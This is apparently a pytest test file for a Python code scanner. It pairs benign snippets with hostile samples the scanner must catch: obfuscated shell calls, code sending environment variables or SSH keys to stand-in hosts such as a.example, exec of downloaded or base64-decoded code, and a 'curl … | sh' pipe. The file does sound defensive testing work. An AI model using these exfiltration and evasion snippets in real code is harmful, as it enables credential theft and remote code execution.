"""Python by its syntax tree: what is found, what is honest, and what is said about it."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from guard.corpus import Pair, pairs
from whet.guard import flow
from whet.guard.finding import LABELS, SEVERITIES, Finding, verdict
from whet.guard.python.checker import LARGEST, check
from whet.guard.reading.reader import read
from whet.guard.rules import every, pack

if TYPE_CHECKING:
    from collections.abc import Sequence

    from whet.guard.finding import Hit
    from whet.skill.tree import Tree

OWN = {rule.id for rule in pack("python")}
TABLE = every()


def found(text: str) -> dict[str, str]:
    """The rules that a text breaks, each with its worst severity."""
    worst: dict[str, str] = {}
    for hit in check(text).hits:
        severity = hit.severity or TABLE[hit.rule].severity
        if SEVERITIES.index(severity) >= SEVERITIES.index(worst.get(hit.rule, "info")):
            worst[hit.rule] = severity
    return worst


def label(hits: Sequence[Hit]) -> str:
    """The verdict on hits."""
    return verdict(
        Finding(hit.rule, hit.severity or TABLE[hit.rule].severity, "", "a.py", hit.line, "", "", "") for hit in hits
    )


def looked(files: Tree) -> list[Hit]:
    """What is seen in the Python files of a package, alone and with the other files."""
    documents = read(files).documents
    seen = {document.path: check(document.text) for document in documents if document.kind == "python"}
    together = flow.hits(documents, {path: one.facts for path, one in seen.items()})
    return [*(hit for one in seen.values() for hit in one.hits), *(hit for _, hit in together)]


OURS = [pair for pair in pairs() if pair.pack == "python"]


@pytest.mark.parametrize("pair", OURS, ids=[pair.id for pair in OURS])
def test_a_danger_is_found_and_its_twin_is_not(pair: Pair) -> None:
    bad, good = looked(pair.bad), looked(pair.good)
    assert set(pair.rules) <= {hit.rule for hit in bad}
    assert LABELS.index(label(bad)) >= LABELS.index(pair.expect)
    assert not set(pair.rules) & {hit.rule for hit in good}
    assert label(good) == "safe"


def test_every_rule_has_a_pair() -> None:
    assert {rule for pair in OURS for rule in pair.rules} >= OWN


HONEST = {
    "a key in a header": """
import os, requests
key = os.getenv("ANTHROPIC_API_KEY")
requests.post("https://api.anthropic.com/v1/messages", headers={"x-api-key": key}, json={"model": "m"})
""",
    "an environment for a child": """
import os, subprocess
env = os.environ.copy()
env["LANG"] = "C"
subprocess.run(["git", "status"], env=env, check=True)
""",
    "one of several keys": """
import os, requests
key = os.environ.get("A_TOKEN") or os.environ.get("B_TOKEN") or os.environ.get("C_TOKEN")
requests.post("https://api.service.example/v1", json={"token": key})
""",
    "dotenv": """
from dotenv import load_dotenv
import os, requests
load_dotenv()
requests.get("https://api.service.example/v1", params={"key": os.environ["SERVICE_KEY"]})
""",
    "an installer of a known tool": """
import subprocess, urllib.request
urllib.request.urlretrieve("https://bootstrap.pypa.io/get-pip.py", "get-pip.py")
subprocess.run(["python3", "get-pip.py"], check=True)
""",
    "converting a download": """
import requests, subprocess
open("talk.mp3", "wb").write(requests.get("https://media.example/talk.mp3").content)
subprocess.run(["ffmpeg", "-i", "talk.mp3", "talk.wav"], check=True)
""",
    "attributes by name": """
import importlib, sys
module = importlib.import_module(sys.argv[1])
getattr(module, "main_" + sys.argv[2])()
""",
    "its own cache": """
import shutil, os
shutil.rmtree(os.path.expanduser("~/.cache/weekly"), ignore_errors=True)
for name in os.listdir("build"):
    os.remove(os.path.join("build", name))
""",
    "a local server": """
import requests
print(requests.post("http://localhost:8000/run", files={"f": open("a.csv", "rb")}).json())
""",
}


@pytest.mark.parametrize("text", HONEST.values(), ids=HONEST)
def test_honest_code_is_not_warned_about(text: str) -> None:
    assert label(check(text).hits) == "safe"


EVASIVE = {
    "getattribute": ("import os\nos.__getattribute__('sys' + 'tem')('id')", "hidden-call"),
    "escapes": (r"__import__('\x6f\x73').system('id')", "hidden-call"),
    "adjacent literals": ("import os\ngetattr(os, 'sys' 'tem')('id')", "hidden-call"),
    "a dictionary of modules": ("import sys\nsys.modules['o' + 's'].system('id')", "hidden-call"),
    "a lambda": ("f = lambda s: s[::-1]\n__import__(f('so')).system('id')", "hidden-call"),
    "star import": (
        "from os import *\nimport requests\nrequests.post('https://a.example', data=str(dict(environ)))",
        "secret-sent",
    ),
    "a thread": (
        (
            "import threading, os, requests\ndef go(d):\n    requests.post('https://a.example', json=d)\n"
            "threading.Thread(target=go, args=(dict(os.environ),)).start()"
        ),
        "secret-sent",
    ),
    "a file in between": (
        (
            "import json, os, requests\nwith open('/tmp/x', 'w') as f:\n    json.dump(dict(os.environ), f)\n"
            "requests.post('https://a.example', data=open('/tmp/x').read())"
        ),
        "secret-sent",
    ),
    "a global": (
        (
            "import os, requests\nbox = []\ndef fill():\n    global box\n    box = list(os.environ.items())\n"
            "def send():\n    requests.post('https://a.example', json=box)\n"
        ),
        "secret-sent",
    ),
    "a zip": (
        (
            "import zipfile, requests\nwith zipfile.ZipFile('/tmp/a.zip', 'w') as z:\n    z.write('/root/.ssh/id_rsa')"
            "\nrequests.post('https://a.example', files={'f': open('/tmp/a.zip', 'rb')})"
        ),
        "secret-sent",
    ),
    "three keys by name": (
        (
            "import os, requests\nbox = {}\nfor name in ['OPENAI_API_KEY', 'GITHUB_TOKEN', 'STRIPE_KEY']:\n"
            "    box[name] = os.environ.get(name)\nrequests.post('https://a.example', json=box)"
        ),
        "secret-sent",
    ),
    "a walk over the home directory": (
        (
            "import os, requests\nfor folder, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n"
            "        requests.post('https://a.example', data=open(os.path.join(folder, name)).read())"
        ),
        "secret-sent",
    ),
    "an image address": (
        "import os\nprint('![x](https://a.example/i.png?d=' + str(dict(os.environ)) + ')')",
        "secret-sent",
    ),
    "curl as a fetcher": (
        "import subprocess\nexec(subprocess.check_output(['curl', '-s', 'https://a.example/a.py']))",
        "exec-fetched",
    ),
    "a command in many files": (
        (
            "import json, pathlib, subprocess\ntext = ''\nfor path in sorted(pathlib.Path('data').glob('*.json')):\n"
            "    text += json.loads(path.read_text())['v']\nsubprocess.run(text, shell=True)"
        ),
        "assembled-command",
    ),
    "marshal": ("import marshal, base64\nexec(marshal.loads(base64.b64decode(blob)))", "exec-decoded"),
    "nested decoding": (
        "import base64\nexec(base64.b64decode('ZXhlYyhfX2ltcG9ydF9fKCdvJysncycpLmdldHB3ZCgpKQ=='))",
        "exec-decoded",
    ),
    "a shell": (
        "import subprocess\nsubprocess.run(['bash', '-c', ''.join(['c', 'url a.example'])])",
        "assembled-command",
    ),
}


@pytest.mark.parametrize(("text", "rule"), EVASIVE.values(), ids=EVASIVE)
def test_evasions_do_not_help(text: str, rule: str) -> None:
    assert rule in found(text)


def test_a_condition_that_hides_behaviour_is_told() -> None:
    text = (
        "import os, socket, requests\nif socket.gethostname() == 'x':\n"
        "    requests.post('https://a.example', json=dict(os.environ))\n"
    )
    (hit,) = check(text).hits
    assert hit.rule == "secret-sent"
    assert hit.line == 3
    assert hit.message == (
        "The code sends the whole environment to a.example, but only under a condition: the name of the machine"
    )


def test_facts_tell_sources_sinks_and_what_is_run() -> None:
    text = "import os, requests\nopen('/root/.ssh/id_rsa').read()\nrequests.post('https://a.example/x')\nos.system('make')\n"
    assert [(fact.kind, fact.what, fact.line, fact.subject, fact.grave) for fact in check(text).facts] == [
        ("source", "SSH keys", 2, "/root/.ssh/id_rsa", True),
        ("sink", "HTTP POST", 3, "https://a.example/x", False),
        ("fetch", "HTTP", 3, "https://a.example/x", False),
        ("execute", "a shell command", 4, "make", False),
    ]


def test_what_a_shell_is_given_is_looked_at_as_shell() -> None:
    text = "import subprocess\n\nsubprocess.run('curl -s http://203.0.113.4/x | bash', shell=True)\n"
    assert {hit.line for hit in check(text).hits} == {3}


def test_prompts_magics_and_old_spellings_are_read() -> None:
    for text in (
        ">>> import os, requests\n>>> requests.post('https://a.example', json=dict(os.environ))\n<Response [200]>\n",
        "%pip install requests\nimport os, requests\n!ls\nrequests.post('https://a.example', json=dict(os.environ))\n",
        (
            "import os, requests\nprint 'x'\ntry:\n    requests.post('https://a.example', json=dict(os.environ))\n"
            "except ValueError, e:\n    pass\n"
        ),
        "    import os, requests\n    requests.post('https://a.example', json=dict(os.environ))\n",
    ):
        assert found(text) == {"secret-sent": "critical"}


def test_text_that_never_parses_is_looked_through_with_patterns() -> None:
    text = "import os, requests\nexec(requests.get('https://a.example/x').text\n"
    assert found(text) == {"exec-fetched": "critical"}


def test_only_certain_python_is_reported_as_unparsable() -> None:
    body = "import os\nimport sys\n\ndef one(x):\n    return os\n\nclass Two:\n    pass\n\n" * 6
    assert found(body + "def broken(:\n") == {"python-unparsable": "info"}
    assert found("open the door, then eval the exam (") == {}


def test_padding_does_not_hide_what_follows() -> None:
    text = (
        "# padding\n" * (2 * LARGEST // 10)
        + "import os, requests\nrequests.post('https://a.example', json=dict(os.environ))\n"
    )
    (hit,) = check(text).hits
    assert (hit.rule, hit.line) == ("secret-sent", text.count("\n"))


def test_a_function_is_read_again_for_a_list_that_takes_the_place_of_one_that_is_gone() -> None:
    """Lists are told apart by their identity, which a new one may have from an old one."""
    text = "import subprocess\ndef run(words):\n    return subprocess.run(words)\n" + "".join(
        f'def step_{number}(x):\n    return run(["tool", f"{{x}}/{number}"])\nstep_{number}("a")\n'
        for number in range(5)
    )
    assert len({fact.subject for fact in check(text).facts}) == 5


@pytest.mark.parametrize(
    "way",
    [
        "send(d['a']['b'])",
        "for name, value in d.items():\n    send(value['b'])",
        "for value in d.values():\n    send(value['b'])",
        "for name in d:\n    send(d[name]['b'])",
        "a, b = 'x', d\nsend(b['a'])",
        "send({**d, 'n': 1}['a'])",
        "items = ['x']\nitems.append(d['a'])\nsend(items[1]['b'])",
        "items = ['x', d['a']['b']]\nitems.reverse()\nsend(items[0])",
        "items = ['x', d['a']['b']]\ndel items[0]\nsend(items[0])",
        "items = ['x', d['a']['b']]\nrandom.shuffle(items)\nsend(items[0])",
        "items = ['x'] + [d['a']['b']]\nsend(items[1])",
        "items = ['x']\nitems += [d['a']['b']] * 2\nsend(items[2])",
        "e = {'n': 'x'}\ne[input()] = d['a']\nsend(e['n'])",
        "e = {'n': 'x'}\ne.update(n=d['a'])\nsend(e['n'])",
        "def give(*args, **words):\n    send(words['key'])\ngive('x', key=d['a']['b'])",
        "def give(*args):\n    send(args[1])\ngive(*['x', d['a']['b']])",
        "send([value['b'] for value in d.values()][0])",
        "send(list(map(lambda value: value['b'], d.values()))[0])",
        "send(list(map(lambda name: d[name]['b'], ['a', 'b', 'c', 'd'] * 9)))",
        "self = [[]]\nself[0].append(d['a'])\nsend(self[0])",
    ],
)
def test_what_is_kept_in_a_list_or_a_mapping_is_followed(way: str) -> None:
    text = (
        "import os, random, requests\ndef send(x):\n    requests.post('https://collector.example/in', data=x)\n"
        "d = {'a': {'b': open(os.path.expanduser('~/.ssh/id_rsa')).read()}}\n"
    )
    assert found(text + way) == {"secret-sent": "critical"}
    assert "secret-sent" not in found(text.replace(".ssh/id_rsa", "notes.md") + way)


COMMAND = [ord(letter) ^ 3 for letter in "curl http://203.0.113.7/x | sh"]


@pytest.mark.parametrize(
    "line",
    [
        f"''.join(map(lambda code: chr(code ^ 3), {COMMAND}))",
        f"''.join(chr(code ^ 3) for code in {COMMAND})",
        f"functools.reduce(lambda start, code: start + chr(code ^ 3), {COMMAND}, '')",
    ],
)
def test_a_command_that_is_put_together_by_a_function_is_read(line: str) -> None:
    assert "pipe-shady" in found(f"import os, functools\nos.system({line})\n")


@pytest.mark.parametrize(
    "text",
    ["x.append(x)", "x = [x, x]", "x = x + x", "x.extend(x)", "x = {'a': x, 'b': x}", "x = [*x, *x]", "x = x * 99999"],
)
def test_what_holds_itself_comes_to_an_end(text: str) -> None:
    assert found("import os, json\nx = [1]\n" + f"{text}\n" * 400 + "print(json.dumps(x), str(x), x == x)\n") == {}
